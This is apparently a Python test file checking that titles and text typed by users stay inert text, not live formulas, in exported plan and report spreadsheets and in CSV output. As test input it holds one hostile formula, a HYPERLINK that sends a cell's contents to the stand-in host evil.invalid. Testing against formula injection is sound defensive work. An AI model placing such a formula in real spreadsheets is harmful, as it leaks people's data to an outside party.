"""A person's text in our own spreadsheets (the plan table, the report) is text, never a live formula."""
from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from engine.plans.exporter import write_xlsx
from engine.scoring.report import xlsx as report_xlsx
from engine.store import cells
from tests import factories as f

HOSTILE = '=HYPERLINK("http://evil.invalid/?leak="&B3,"点此查看")'


def _formulas(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if b"<f>" in book.read(name) or b"<f " in book.read(name)]


def test_plan_title_and_target_text_stay_text_in_both_spreadsheets(session):
    target = f.target(session)
    plan = session.get(type(f.plan(session)), target.plan_id)
    plan.title = HOSTILE
    target.text = "=1+1"
    session.add_all([plan, target])
    session.commit()
    for data in (write_xlsx(session, plan.id), report_xlsx(session=session, plan_id=plan.id)):
        assert _formulas(data) == []
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        assert sheet["A1"].value == HOSTILE and sheet["A1"].data_type == "s"
        assert any(c.value == "=1+1" and c.data_type == "s" for row in sheet.iter_rows() for c in row)


def test_csv_values_that_would_run_get_an_apostrophe():
    assert [cells.inert(v) for v in ("=1", "+1", "-1", "@A", "\tx", "普通", 5)] == \
        ["'=1", "'+1", "'-1", "'@A", "'\tx", "普通", 5]
